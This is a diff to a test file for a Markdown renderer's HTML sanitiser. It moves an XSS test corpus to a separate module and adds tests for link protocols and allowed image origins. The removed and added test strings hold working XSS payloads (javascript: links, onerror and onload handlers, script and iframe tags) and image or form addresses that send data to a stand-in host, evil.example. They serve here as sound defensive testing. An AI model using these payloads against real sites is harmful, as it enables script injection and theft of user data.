@@ -1,6 +1,7 @@
 import { expect, test } from 'vitest'
 import { MarkdownRenderer } from '../../src/rendering/markdown/markdown-renderer.js'
 import { renderWhole } from './markdown-kit.js'
+import { CORPUS } from './xss-corpus.js'
 
 const ELEMENTS = new Set(
   'DIV P H3 H4 H5 H6 UL OL LI SPAN STRONG EM DEL CODE PRE A BR HR BLOCKQUOTE FIGURE FIGCAPTION BUTTON TABLE THEAD TBODY TR TH TD SUP INPUT'.split(
@@ -13,53 +14,6 @@ const ATTRIBUTES = new Set(
   ),
 )
 
-const CORPUS = [
-  '[a](javascript:alert(1))',
-  '[a](JaVaScRiPt:alert(1))',
-  '[a]( javascript:alert(1))',
-  '[a](java\nscript:alert(1))',
-  '[a](&#106;avascript:alert(1))',
-  '[a](javascript&colon;alert(1))',
-  '[a](\u0001javascript:alert(1))',
-  '[a](vbscript:msgbox(1))',
-  '[a](data:text/html,<script>alert(1)</script>)',
-  '[a](blob:https://example.org/1)',
-  '[a](file:///etc/passwd)',
-  '[a](//evil.example/x)',
-  '[a](/relative)',
-  '<javascript:alert(1)>',
-  '[a][r]\n\n[r]: javascript:alert(1)',
-  '![x](javascript:alert(1))',
-  '![x](https://evil.example/pixel.png?secret)',
-  '![x" onerror="alert(1)](x)',
-  '<img src=x onerror=alert(1)>',
-  '<script>alert(1)</script>',
-  '<svg onload=alert(1)><animate onbegin=alert(1)></svg>',
-  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
-  '<form action="https://evil.example"><input name=a></form>',
-  '<a href="javascript:alert(1)">x</a>',
-  '<style>*{background:url(https://evil.example)}</style>',
-  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
-  '<div id=body name=cookie>clobber</div>',
-  '```"><img src=x onerror=alert(1)>\ncode\n```',
-  '```html\n<script>alert(1)</script>\n```',
-  '[a](https://ok.example "x\\" onmouseover=alert(1)")',
-  '| <img src=x onerror=alert(1)> | b |\n| - | - |\n| <script>1</script> | c |',
-  '- [x] <script>alert(1)</script>',
-  '[^1]\n\n[^1]: <img src=x onerror=alert(1)> [a](javascript:alert(1))',
-  '[^"onclick=alert(1)]\n\n[^"onclick=alert(1)]: x',
-  '[![x](https://evil.example/p.png)](javascript:alert(1))',
-  '![a\n\nb](https://evil.example/?q=\n\nsecret)',
-  '![x][r]\n\n[r]: https://evil.example/pixel.png?secret',
-  '> - > 1. [a](javascript:alert(1)) <iframe src=//evil.example>',
-  '<https://ok.example/?"onclick=alert(1)>',
-  '&#x3C;script&#x3E;alert(1)&#x3C;/script&#x3E;',
-  '[a](&#x6A;avascript&#58;alert(1))',
-  '[a](jav\tascript:alert(1)) [b](\\u006aavascript:alert(1))',
-  '**<img src=x** onerror=alert(1)> *<svg/onload=alert(1)*',
-  '`<img src=x onerror=alert(1)>` ``<script>``',
-]
-
 function check(container: HTMLElement): void {
   for (const element of container.querySelectorAll('*')) {
     expect(ELEMENTS, element.tagName).toContain(element.tagName)
@@ -67,11 +21,13 @@ function check(container: HTMLElement): void {
     if (element instanceof HTMLAnchorElement) {
       expect(element.protocol).toMatch(/^(?:https?|mailto|tel):$/)
       expect(element.rel).toBe('noopener noreferrer nofollow')
+      // Nothing is relative: an address means the same wherever the block stands, but for a place in the page.
+      expect(element.getAttribute('href')).toMatch(/^(?:https?:\/\/|mailto:|tel:|#)/)
     }
   }
 }
 
-test.each(CORPUS)('%j makes nothing but harmless elements, at every cut and at the end', (source) => {
+function checkEveryCut(source: string): void {
   const container = document.createElement('div')
   const renderer = new MarkdownRenderer(container)
   for (let end = 1; end < source.length; end++) {
@@ -80,6 +36,20 @@ test.each(CORPUS)('%j makes nothing but harmless elements, at every cut and at t
   }
   renderer.render(source, true)
   check(container)
+}
+
+test.each(Object.entries(CORPUS))(
+  '%s make nothing but harmless elements, at every cut and at the end',
+  (_, sources) => {
+    expect(sources.length).toBeGreaterThan(5)
+    for (const source of sources) checkEveryCut(source)
+  },
+)
+
+test('the corpus is large, and of many kinds', () => {
+  const all = new Set(Object.values(CORPUS).flat())
+  expect(all.size).toBeGreaterThan(300)
+  expect(Object.keys(CORPUS).length).toBeGreaterThan(5)
 })
 
 test('raw HTML is shown as the text that it is', () => {
@@ -113,4 +83,47 @@ test('the address of an allowed image is not asked for before it is whole', () =
     renderer.render(source.slice(0, end), false)
     expect(container.querySelector('img')).toBe(null)
   }
+})
+
+const ALLOWED = 'https://img.example'
+
+test.each([
+  '//img.example/a.png',
+  'data:image/svg+xml,<svg onload=alert(1)>',
+  'blob:https://img.example/1',
+  '\\\\img.example\\a.png',
+  'https:\\\\img.example@evil.example/a.png',
+  'https://img.example@evil.example/a.png',
+  'https://img.example.evil.example/a.png',
+  'https://img.example:444/a.png',
+  'http://img.example/a.png',
+  'https://evil.example/https://img.example/a.png',
+  'https://evil.example#https://img.example',
+  'https://ımg.example/a.png',
+  'https://img。evil。example/a.png',
+  'javascript:https://img.example',
+  'ftp://img.example/a.png',
+  'filesystem:https://img.example/a.png',
+  'a.png',
+  '',
+])('a picture at %j is not loaded for an origin that is allowed', (address) => {
+  for (const source of [`![a](<${address}>)`, `![a](${address})`, `![a][r]\n\n[r]: <${address}>`]) {
+    const container = renderWhole(source, { imageOrigins: [ALLOWED] })
+    expect(container.querySelector('img'), source).toBe(null)
+  }
+})
+
+test.each([
+  ['https://img.example/a.png', 'https://img.example/a.png'],
+  ['HTTPS://IMG.EXAMPLE:443/a.png', 'https://img.example/a.png'],
+  ['https://user:secret@img.example/a.png', 'https://img.example/a.png'],
+  ['https://img.example/../a b.png', 'https://img.example/a%20b.png'],
+])('a picture at %j of an allowed origin is loaded as it is written out, without names or passwords', (given, src) => {
+  const container = renderWhole(`![a](<${given}>)`, { imageOrigins: [ALLOWED] })
+  expect(container.querySelector('img')?.getAttribute('src')).toBe(src)
+})
+
+test('a link shows no password that its address would send', () => {
+  const link = renderWhole('[bank](https://bank.example@evil.example/)').querySelector('a')
+  expect(link?.getAttribute('href')).toBe('https://evil.example/')
 })
